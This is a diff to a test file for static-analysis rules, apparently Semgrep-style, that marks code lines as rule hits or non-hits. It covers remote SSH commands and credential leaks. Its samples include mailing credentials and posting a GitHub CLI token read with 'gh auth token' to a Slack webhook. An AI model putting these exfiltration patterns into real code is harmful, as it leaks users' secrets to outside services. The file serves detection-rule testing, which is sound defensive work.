@@ -59,8 +59,20 @@ ssh = paramiko.SSHClient()
 ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
 # ok: ssh-no-host-key-verification
 ssh.set_missing_host_key_policy(paramiko.RejectPolicy())
-# ruleid: paramiko-exec-command
+# a fixed command
+# ruleid: paramiko-exec-fixed-command
+# ok: paramiko-exec-command
 stdin, stdout, stderr = ssh.exec_command("uptime")
+REMOTE_CMD = "df -P"
+# ok: paramiko-exec-command
+stdin, stdout, stderr = ssh.exec_command(REMOTE_CMD, timeout=20)
+# one built from values, or with shell syntax
+# ruleid: paramiko-exec-command
+stdin, stdout, stderr = ssh.exec_command(f"tail -n 50 {log_path}")
+# ruleid: paramiko-exec-command
+stdin, stdout, stderr = ssh.exec_command(remote_cmd)
+# ruleid: paramiko-exec-command
+stdin, stdout, stderr = ssh.exec_command("cat /var/log/app.log | grep ERROR")
 
 # ruleid: rpc-client
 proxy = xmlrpc.client.ServerProxy("http://localhost:8000/")
@@ -396,7 +408,7 @@ def _notify(details):
     msg.set_content(f"release pushed\n{details}")
     # ruleid: clear-text-protocol-client
     with smtplib.SMTP("smtp.notify.example.org", 587) as s:
-        # ruleid: secret-exfiltration
+        # ruleid: secret-exfiltration, cli-credential-in-message
         s.send_message(msg)
 _notify(_creds("github.com"))
 # a report of the task's own results mailed the same way is fine
@@ -408,3 +420,15 @@ def _notify_ok(rows):
         # ok: secret-exfiltration
         s.send_message(msg)
 _notify_ok(12)
+# a CLI's token posted to a chat webhook
+SLACK_HOOK = "https://hooks.slack.com/services/T0/B0/xyz"
+def _gh_identity():
+    return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
+def _status_message(state):
+    return {"text": f"build {state}", "attachments": [{"footer": f"gh:{_gh_identity()}"}]}
+# ruleid: cli-credential-to-chat, http-client
+requests.post(SLACK_HOOK, json=_status_message("passed"), timeout=5)
+# the same token used against its own service is not this rule's business
+# ok: cli-credential-to-chat
+# ruleid: http-client
+requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {_gh_identity()}"}, timeout=5)
